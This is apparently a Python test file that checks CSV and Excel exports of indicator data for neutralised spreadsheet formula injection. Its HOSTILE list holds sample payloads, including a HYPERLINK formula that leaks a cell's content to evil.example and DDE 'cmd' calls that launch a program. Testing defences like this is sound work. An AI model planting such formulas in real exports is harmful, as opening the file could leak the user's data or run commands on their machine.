"""Text a spreadsheet would run as a formula is neutralised in every CSV and in the workbook
(the prefix rule), and numbers written as text are left alone."""

import csv

import pandas as pd
from openpyxl import load_workbook

from orchestration.outputs.exports import neutralised, write_csv_atomically, write_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]


def frame() -> pd.DataFrame:
    rows = len(HOSTILE) + 2
    return pd.DataFrame(
        {
            "family": ["police"] * rows,
            "group": [*HOSTILE, "Domestic abuse", "Missing child report"],
            "percent_change": ["-4.2", "+3.5", "-0.1", "12.0", "c", "", "-100.0", "7", "-1e3"],
        }
    )


def test_the_prefix_rule():
    assert [neutralised(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [neutralised(v) for v in ("-4.2", "+3.5", "-1e3", "c", "", "Police")] == [
        "-4.2", "+3.5", "-1e3", "c", "", "Police",
    ]  # fmt: skip
    assert neutralised(-4.2) == -4.2


def test_csv_exports_hold_no_formula(tmp_path):
    target = tmp_path / "indicators.csv"
    write_csv_atomically(frame(), target)
    with target.open(newline="", encoding="utf-8") as handle:
        header, *rows = list(csv.reader(handle))
    groups = [row[header.index("group")] for row in rows]
    # A carriage return would split the row: it becomes a space, and the text is inert.
    assert groups[: len(HOSTILE)] == ["'" + v for v in HOSTILE[:-1]] + [" =1+1"]
    assert len(rows) == len(frame())
    assert [row[header.index("percent_change")] for row in rows][:3] == ["-4.2", "+3.5", "-0.1"]


def test_the_workbook_holds_no_formula_cell(tmp_path):
    target = tmp_path / "book.xlsx"
    exports = {
        "indicators_monthly": frame(),
        "periods_vs_baseline": frame(),
        "published_benchmarks": frame(),
    }
    write_workbook(exports, target)
    book = load_workbook(target)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert {"'" + v for v in HOSTILE} <= texts
    assert not any(text.startswith(("=", "@")) for text in texts)
    police = book["Police"]
    column = [c.value for c in police[1]].index("Change against the baseline mean (%)")
    numbers = [row[column].value for row in police.iter_rows(min_row=2)]
    assert numbers[:3] == [-4.2, 3.5, -0.1]
